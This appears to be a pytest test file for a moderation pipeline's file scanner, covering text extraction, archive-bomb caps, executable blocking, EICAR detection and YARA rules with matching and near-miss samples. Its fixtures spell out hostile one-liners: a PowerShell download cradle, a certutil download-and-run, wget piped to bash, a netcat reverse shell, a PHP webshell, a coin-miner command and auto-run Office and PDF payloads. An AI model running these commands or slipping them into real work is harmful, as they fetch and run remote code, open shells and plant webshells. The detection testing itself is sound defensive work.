"""Files: text extraction, archives, YARA rules (each rule has a hit and a near miss)."""

import gzip

import pytest

from classifiers.base import Content
from classifiers.media import MalwareClassifier, MediaLimits, extract
from classifiers.media import yara_rules
from modpipe.domain import Category, Decision, Kind
from modpipe.errors import RuleError
from tests.media.hostile import EICAR, PE, _docx, _tar, _zip


def _run(data: bytes, name: str | None = None, limits: MediaLimits | None = None) -> Content:
    c = Content(kind=Kind.FILE, data=data, filename=name)
    extract(c, limits)
    return c


def test_text_files_and_office_documents_give_their_text():
    c = _run("募捐款项将用于\n山区学校图书馆".encode("gb18030"), "a.txt")
    assert c.texts["file"] == "募捐款项将用于\n山区学校图书馆"
    c = _run(_docx("志愿者招募：扫码加群领取红包"), "a.docx")
    assert c.texts["file"] == "志愿者招募：扫码加群领取红包"
    c = _run(b"<html><script>var x=1</script><p>\xe4\xbd\xa0\xe5\xa5\xbd &amp; hi</p></html>", "a.html")
    assert c.texts["file"] == "你好 & hi"
    assert c.texts["filename"] == "a.html"


def test_archive_members_are_listed_scanned_and_read():
    z = _zip({"readme.txt": "请加微信领取奖品".encode(), "inner.tar": _tar({"run.sh": b"curl http://x.test/a | sh\n"})})
    c = _run(z, "pack.zip")
    ar = c.signals["archive"]
    assert ar["bomb"] is None
    assert [m["name"] for m in ar["listing"]] == ["readme.txt", "inner.tar", "inner.tar/run.sh"]
    assert c.texts["file:readme.txt"] == "请加微信领取奖品"
    assert any(y["rule"] == "Unix_Pipe_To_Shell" and y["member"] == "inner.tar/run.sh" for y in c.signals["yara"])
    (r,) = MalwareClassifier().classify(c)
    assert r.floor == Decision.BLOCK


def test_archive_caps_are_limits():
    z = _zip({f"{i}.txt": b"x" * 100 for i in range(20)})
    c = _run(z, limits=MediaLimits(max_archive_members=10))
    assert c.signals["archive"]["bomb"] == "zip declares 20 members, over the cap of 10"
    c = _run(z, limits=MediaLimits(max_archive_total=1000))
    assert c.signals["archive"]["bomb"] == "zip declares 2000 bytes of members, over 1000"
    gz = _run(gzip.compress(b"y" * 5000), limits=MediaLimits(max_archive_total=1000))
    assert gz.signals["archive"]["bomb"] == "members decompress to over 1000 bytes"


def test_executables_allowed_only_when_the_platform_says_so():
    c = _run(PE, "setup.exe")
    (r,) = MalwareClassifier().classify(c)
    assert r.floor == Decision.BLOCK
    assert MalwareClassifier(MediaLimits(allow_executables=True)).classify(c) == []


def test_eicar_is_malware_even_without_extract():
    (r,) = MalwareClassifier().classify(Content(kind=Kind.FILE, data=EICAR))
    assert r.category == Category.MALWARE and r.floor == Decision.BLOCK and r.score == 1.0
    assert r.evidence[0].rule_id == "eicar.EICAR_Test_File"
    # EICAR buried deep in a big file is not the test file (scanners agree)
    assert not any(y["rule"] == "EICAR_Test_File" for y in yara_rules.scan(b"x" * 500 + EICAR))


HITS = {
    "PowerShell_Download_Cradle": b"powershell -nop -c \"iex (New-Object Net.WebClient).DownloadString('http://a.test/x')\"",
    "Windows_LOLBin_Download_Exec": b"certutil.exe -urlcache -split -f http://a.test/p.exe p.exe",
    "Unix_Pipe_To_Shell": b"wget -qO- http://a.test/i.sh | bash",
    "Reverse_Shell": b"nc -e /bin/sh 203.0.113.5 4444",
    "Script_Dropper_WSH": b'Set o = CreateObject("WScript.Shell")\nSet h = CreateObject("MSXML2.XMLHTTP")\no.Run "x.exe"',
    "Webshell_Eval_Request": b"<?php system($_GET['c']); ?>",
    "Coin_Miner": b"./xmrig --donate-level 1 -o pool:3333 cryptonight",
    "Python_Crawler": b"import scrapy\nclass S(scrapy.Spider):\n    name='s'\n",
    "Headless_Browser_Scraper": b"from selenium import webdriver\nopts.add_argument('--headless')\nd.find_elements('css', 'a')",
    "Office_Macro_AutoExec_Dropper": b"Sub Document_Open()\n  x = Shell(\"cmd /c calc\")\nEnd Sub",
    "PDF_Launch_Action": b"%PDF-1.4\n1 0 obj << /Type /Action /S /Launch /F (cmd.exe) >> endobj",
    "PDF_Auto_JavaScript": b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj",
}
NEAR_MISSES = [
    "如何防范 PowerShell 下载攻击：不要运行 DownloadString 的脚本。".encode(),
    b"curl -O https://example.org/report.pdf",
    b"Please open the WScript.Shell documentation.",
    "本文介绍爬虫的法律风险，请勿使用 requests 抓取他人网站。".encode(),
    b"Sub Document_Open()\n MsgBox \"Welcome\"\nEnd Sub",
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction [3 0 R /Fit] >> endobj",
]


@pytest.mark.parametrize("rule", sorted(HITS))
def test_each_yara_rule_matches_its_sample(rule):
    assert rule in {m["rule"] for m in yara_rules.scan(HITS[rule])}


@pytest.mark.parametrize("text", NEAR_MISSES)
def test_near_misses_do_not_match(text):
    assert yara_rules.scan(text) == []


def test_a_broken_rule_file_names_file_and_line(tmp_path, monkeypatch):
    (tmp_path / "bad.yar").write_text("rule ok { condition: true }\nrule broken {\n  condition: $nope\n}\n")
    monkeypatch.setattr(yara_rules, "RULES_DIR", tmp_path)
    with pytest.raises(RuleError) as info:
        yara_rules._compile()
    # yara points at the end of the broken rule (line 4); either way not line 1 or 0
    assert info.value.line in (3, 4) and info.value.path.endswith("bad.yar") and "$nope" in info.value.message
